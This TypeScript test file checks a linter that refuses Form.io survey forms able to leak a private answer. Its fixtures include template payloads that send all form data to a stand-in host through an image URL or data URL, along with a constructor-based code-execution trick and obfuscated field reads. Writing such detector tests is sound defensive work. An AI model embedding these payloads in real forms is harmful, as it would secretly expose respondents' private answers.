// SPDX-License-Identifier: GPL-3.0-or-later
/** Forms of Form.io in which something gives a private answer away, and those in which nothing does. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type FormRuleId, lintForm, plugin } from "../../web/survey/formio.js";
import { fails } from "./helpers.js";
import { loaded } from "./smoking.js";

const fields = { smokes: "smoking" };
const smokes = {
  type: "radio",
  key: "smokes",
  label: "Do you smoke? Of what smokes",
  values: [{ value: "smokes", label: "smokes" }],
};
/** A form with another component, which says this. */
const form = (more: object): object => ({
  components: [
    smokes,
    { type: "columns", key: "c", columns: [{ components: [{ type: "number", key: "howMany", ...more }] }] },
  ],
});
/** The same with several, which are called a, b and c. */
const several = (...all: object[]): object => ({
  components: [smokes, ...all.map((more, i) => ({ type: "number", key: "abc"[i], ...more }))],
});
const own = (more: object): object => ({ components: [{ ...smokes, ...more }] });
const rulesOf = (json: unknown) => [...new Set(lintForm(json, { fields }).map(({ rule }) => rule))];

const logic = (action: object, trigger: object = { type: "event", event: "x" }): object => ({
  logic: [{ trigger, actions: [action] }],
});
const when = (field: string): object => ({ type: "simple", simple: { show: true, when: field, eq: "1" } });

/** How people read all answers, or any, without a name. */
const ALL = "Object.values(data).join()";
const HOLE = `{{ ${ALL} }}`;
/** Names of JSON logic that hold more than one field, or none that can be told. */
const NO_FIELDS = ["submission.data", "instance.root.data", null, "", "data", "row", "form.x", "value", "0", 0];

const depending: object[] = [
  { conditional: { show: true, when: "smokes", eq: "daily" } },
  { conditional: { show: true, conditions: [{ component: "smokes", operator: "isEqual", value: "daily" }] } },
  { conditional: { json: { "===": [{ var: "data.smokes" }, "daily"] } } },
  { customConditional: "show = data.smokes === 'daily'" },
  { customConditional: "show = data['smokes'] === 'daily'" },
  { calculateValue: "value = row.smokes" },
  { calculateValue: { var: "data.smokes" } },
  { customDefaultValue: "value = data.smokes" },
  { validate: { custom: "valid = data.smokes === 'x' || 'no'" } },
  { logic: [{ trigger: when("smokes"), actions: [] }] },
  logic({ type: "value", value: "value = data.smokes" }),
  { label: "How many {{ data.smokes }}?" },
  { data: { url: "https://example.org/{{ data.smokes }}" } },
  { refreshOn: "smokes" },
];

/** By what is wrong, or why nothing is: the forms, of which each is refused by this rule alone, or passes. */
const cases: Record<string, [rule: FormRuleId | undefined, forms: unknown[]]> = {
  "something depends on a private field": ["depends-on", depending.map(form)],
  "code whose fields cannot be read": [
    "unread-code",
    [
      { customConditional: "show = data['smo' + 'kes'] === 'daily'" },
      { customConditional: "show = Object.values(data).includes('daily')" },
      { customConditional: "show = instance.root.data.a" },
      { calculateValue: "value = data.sm\\u006fkes" },
      { calculateValue: { var: { cat: ["smo", "kes"] } } },
    ].map(form),
  ],
  "code is code in whatever place Form.io runs some": [
    "unread-code",
    [
      logic({ type: "customAction", customAction: `value = ${ALL}` }),
      logic({ type: "mergeComponentSchema", schemaDefinition: `schema = { label: ${ALL} }` }),
      logic({ type: "value", value: `value = ${ALL}` }),
      { calculateValue: "value = arguments[0]['smo' + 'kes']" },
      { calculateValue: "value = components.length + flattened" },
      { calculateValue: "value = ''.constructor.constructor('return 1')()" },
      { conditionalAddButton: `show = ${ALL}` },
      { validate: { row: `valid = ${ALL}` } },
      { widget: { disableFunction: `${ALL}` } },
    ].map(form),
  ],
  "what stands in braces is code, wherever it is shown or loaded": [
    "unread-code",
    [
      { type: "htmlelement", content: `<img src="https://x.example/?${HOLE}">` },
      { type: "htmlelement", attrs: [{ attr: "src", value: `https://x.example/?${HOLE}` }] },
      { type: "content", html: `<p>{% for (const key in data) { %}{{ key }}{% } %}</p>` },
      { data: { url: `https://x.example/?${HOLE}` } },
      { label: `How many, ${HOLE}?` },
      { template: `<span>{{ item.label }}${HOLE}</span>` },
      { templates: { row: `<b>${HOLE}</b>` } },
      { description: "{{ data['sm\\u006fkes'] }}" },
      { description: "{{{ '}}' + Object.values(data) }}}" },
      { customClass: HOLE },
    ].map(form),
  ],
  "JSON logic that reads more than a field by its name": [
    "unread-code",
    NO_FIELDS.flatMap((name) => [
      { calculateValue: { var: name } },
      { conditional: { json: { "===": [{ var: name }, "x"] } } },
      { calculateValue: { map: [{ var: name }, { var: "" }] } },
    ]).map(form),
  ],
  "JSON logic that puts the name of a part of an item together": [
    "unread-code",
    ["map", "filter", "some"]
      .map((each) => ({ calculateValue: { [each]: [{ var: "data.grid" }, { var: { cat: ["smo", "kes"] } }] } }))
      .map(form),
  ],
  "what is calculated from itself counts answers": [
    "counts",
    [
      { calculateValue: "value = String((Number(value) || 0) + 1)" },
      { calculateValue: "value += 1" },
      { calculateValue: "if (value === '') value = data.town" },
      { calculateValue: "value = (data.howMany || 0) + 1" },
      { calculateValue: "value = (row['howMany'] || 0) + 1" },
      logic({ type: "customAction", customAction: "value = value + 1" }, { type: "event" }),
    ].map(form),
  ],
  "so do fields that are calculated from one another": [
    "counts",
    [
      several({ calculateValue: "value = data.b + 1" }, { calculateValue: "value = data.a" }),
      several({ calculateValue: { "+": [{ var: "data.a" }, 1] } }),
      several(
        { calculateValue: { var: "data.b" } },
        { calculateValue: "value = row['c'] + 1" },
        { calculateValue: "value = data.a" },
      ),
      several(logic({ type: "value", value: "value = 2" }, when("a"))),
    ],
  ],
  "a private field with a check or actions of its own": [
    "own-check",
    [
      { validate: { custom: "valid = input === 'now and then' ? 'No' : true" } },
      { validate: { json: { "!=": [1, 2] } } },
      { validate: { customPrivate: true } },
      logic({ type: "property" }),
    ].map(own),
  ],
  "no form": ["no-form", [{}]],
  "a form without the field": ["no-field", [{ components: [] }]],
  "nothing depends on a private field, and words are no fields": [
    undefined,
    [
      {},
      { conditional: { show: true, when: "town", eq: "smokes" } },
      { customConditional: "show = data.town === 'Delft' && row['town'] !== 'x'" },
      { calculateValue: "value = data.smokesToo" },
      { label: "How much of smokes?", description: "{{ data.town }}" },
      { validate: { custom: "valid = input > 3 || 'more'" } },
    ].map(form),
  ],
  "nothing is calculated from itself": [
    undefined,
    [
      several({ calculateValue: "value = data.b + ' a data'" }, { calculateValue: "value = data.c" }, {}),
      several({ calculateValue: "value = data.b" }, { validate: { custom: "valid = input > data.a" } }),
      several(logic({ type: "property", property: { value: "disabled" }, state: true }, when("a"))),
    ],
  ],
  "as the builder of Form.io leaves what nobody has filled in": [
    undefined,
    [
      own({ validate: { required: true, custom: "", customPrivate: false, json: "" }, logic: [] }),
      own({ validate: { json: {} }, logic: {} }),
    ],
  ],
  "ordinary forms": [
    undefined,
    [
      { calculateValue: "value = data.town + row['street']" },
      { calculateValue: "value = data.a * 2; if (value > 10) value = 10;" },
      { calculateValue: "if (data.town == 'Delft') { value = 1 } else { value = 'value' }" },
      { calculateValue: "value = data.list.map(one => one.value).join(', ')" },
      { calculateValue: { "+": [{ var: "data.a" }, { var: "row.b.c" }] } },
      {
        calculateValue: { reduce: [{ var: "data.grid" }, { "+": [{ var: "current.price" }, { var: "accumulator" }] }] },
      },
      { calculateValue: { filter: [{ var: "data.grid" }, { "===": [{ var: "price" }, 1] }] } },
      { template: "<span>{{ item.label }}</span>" },
      { description: "In {{ data.town }}, {{ row.street }} or any other place with data" },
      { i18n: { en: { required: "{{ field }} is required, at least {{ min }}", other: "smokes" } } },
      { data: { url: "https://x.example/?town={{ data.town }}" } },
      { data: { custom: "values = ['a', 'b']" } },
      {
        templates: {
          header: "{% util.eachComponent(components, function(component) { %}<b>{{ t(component.label) }}</b>{% }) %}",
          row: "{% util.eachComponent(components, function(component) { %}{{ getView(component, row[component.key]) }}{% }) %}",
        },
      },
      { logic: [{ trigger: { type: "javascript", javascript: "result = data.town === 'x'" }, actions: [] }] },
      { customDefaultValue: "value = data.town" },
      { defaultValue: "data", placeholder: "value" },
    ].map(form),
  ],
};

for (const [name, [rule, forms]] of Object.entries(cases)) {
  test(`${rule ?? "let through"}: ${name}`, () => {
    for (const json of forms) assert.deepEqual(rulesOf(json), rule ? [rule] : [], JSON.stringify(json));
  });
}

test("the plug-in refuses a form that leaks, with what and why, and takes one that does not", async () => {
  const sluice = await loaded();
  for (const more of depending) {
    const error = await fails(() => plugin({ sluice, fields, form: form(more) }), "bad_request");
    assert.match(error.message, /"howMany" depends on the answer to "smokes".*\(RULES\.md#formio-depends-on\)/);
  }
  assert.ok(plugin({ sluice, fields, form: form({}) }));
});
